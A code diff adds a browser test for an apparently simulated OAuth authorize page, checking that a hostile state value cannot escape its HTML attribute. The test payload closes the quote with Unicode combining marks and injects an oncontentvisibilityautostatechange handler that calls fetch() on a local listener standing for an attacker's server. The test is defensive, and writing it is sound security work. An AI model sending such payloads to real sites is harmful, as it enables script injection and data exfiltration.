@@ -103,3 +103,29 @@ test("a person's tour of the console: log in, search, edit, a related Contact, S
   assert.equal(await session.evaluate('window.__pwned === true'), false);
   assert.ok(!session.events.some((event) => event.method === 'Page.javascriptDialogOpening'), 'a dialog opened');
 });
+
+test("the login page with a state whose quote a combining mark follows: the value stays one attribute, and no script runs", async () => {
+  const localOrg = await startLocalOrg(forcekit);
+  cleanups.push(() => localOrg.stop());
+  const { instanceUrl, clientId, redirectUri } = localOrg.org;
+  // A listener on another port stands for the attacker's server: the page must never reach it.
+  const http = require('node:http');
+  let stolen = 0;
+  const thief = http.createServer((request, response) => { stolen += 1; response.end(); });
+  await new Promise((resolve) => thief.listen(0, '127.0.0.1', resolve));
+  cleanups.push(() => new Promise((resolve) => thief.close(resolve)));
+  const thiefUrl = `http://127.0.0.1:${thief.address().port}/`;
+
+  const session = await openChromium('about:blank', cleanups);
+  await session.send('Page.enable');
+  for (const mark of ['\u0338', '\u200d', '\ufe0f', '\u0308', '\u0903', '\u{1f3fb}']) {
+    const state = `s"${mark} oncontentvisibilityautostatechange="window.__pwned=true;fetch('${thiefUrl}')" style="display:block" x="`;
+    const query = new URLSearchParams({ response_type: 'code', client_id: clientId, redirect_uri: redirectUri, state });
+    await navigate(session, `location.href = ${JSON.stringify(`${instanceUrl}/services/oauth2/authorize?${query}`)}`, /^\/services\/oauth2\/authorize\?/);
+    assert.equal(await session.evaluate("document.querySelector('input[name=state]').value"), state);
+    assert.equal(await session.evaluate("document.querySelector('input[name=state]').getAttributeNames().join(' ')"), 'type name value');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    assert.equal(await session.evaluate('window.__pwned === true'), false);
+  }
+  assert.equal(stolen, 0, 'the page sent a request to another port');
+});
